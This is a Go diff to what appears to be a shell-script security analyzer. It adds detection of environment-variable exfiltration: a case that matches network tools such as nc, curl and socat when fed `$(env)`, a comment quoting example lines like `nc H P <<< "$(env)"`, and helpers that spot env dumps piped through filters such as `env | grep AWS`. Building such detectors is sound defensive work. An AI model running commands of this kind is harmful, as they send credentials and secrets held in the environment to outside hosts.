@@ -321,6 +321,11 @@ func (a *analyzer) given(argv []string, text string) {
 		}
 	case "at", "batch":
 		a.line(text, a.depth+1) // at(1) runs the commands it reads with sh
+	case "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl":
+		if envSubst.MatchString(text) {
+			// `nc H P <<< "$(env)"`, `nc H P <<< "$l"` in a loop over env (det69)
+			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
+		}
 	case "sqlite3":
 		a.sqliteDot(text) // carriers.go
 	case "make", "gmake":
@@ -379,6 +384,64 @@ func (a *analyzer) readLoop(s *syntax.Stmt, fed []string) bool {
 // (`$(env)`, `$(printenv)`, `$(export -p)`: envSubst, the whole of t).
 func envOutput(t string) bool {
 	return strings.HasPrefix(t, "$(") && envSubst.FindString(t) == t
+}
+
+// envStage reports whether a pipeline stage (argv; nil for a loop, a block or a subshell)
+// prints the environment or part of it: a command that dumps it (envOutput), or a filter
+// (envFilter) given what the stage before printed when that was the environment (prevEnv).
+func envStage(argv []string, prevEnv bool) bool {
+	if len(argv) == 0 {
+		return false
+	}
+	if envOutput("$(" + strings.Join(argv, " ") + ")") {
+		return true
+	}
+	return prevEnv && envFilter[base(argv[0])]
+}
+
+// envFilter are the commands that print some of the lines or fields they read and nothing
+// else: `env | grep AWS`, `printenv | cut -d= -f2`, `env | sort`.
+var envFilter = set("grep", "egrep", "fgrep", "rg", "sort", "uniq", "cut", "sed", "awk", "gawk", "mawk", "head", "tail", "tr", "cat", "tac", "column")
+
+// declDump reports whether a declaration builtin prints the variables instead of setting them:
+// `export`, `export -p`, `declare -x`, `declare -p`, `typeset` alone (bash(1) SHELL BUILTIN
+// COMMANDS).
+func declDump(c *syntax.DeclClause) bool {
+	if c.Variant == nil {
+		return false
+	}
+	switch c.Variant.Value {
+	case "export", "declare", "typeset":
+	default:
+		return false
+	}
+	for _, as := range c.Args {
+		if !as.Naked || as.Name != nil || as.Value == nil {
+			return false
+		}
+		switch as.Value.Lit() {
+		case "-p", "-x", "-px", "-xp":
+		default:
+			return false
+		}
+	}
+	return true
+}
+
+// envPipe reports whether a pipeline in a command substitution prints the environment or part
+// of it (envStage through every stage): `$(env | grep KEY)`.
+func (a *analyzer) envPipe(stages []*syntax.Stmt) bool {
+	env := false
+	for _, st := range stages {
+		ce, ok := st.Cmd.(*syntax.CallExpr)
+		if !ok {
+			return false
+		}
+		if env = envStage(unwrapRoot(a.fields(ce.Args)), env); !env {
+			return false
+		}
+	}
+	return env
 }
 
 // setParams judges `set -- WORDS` (and `set WORDS` whose first word is no option): the
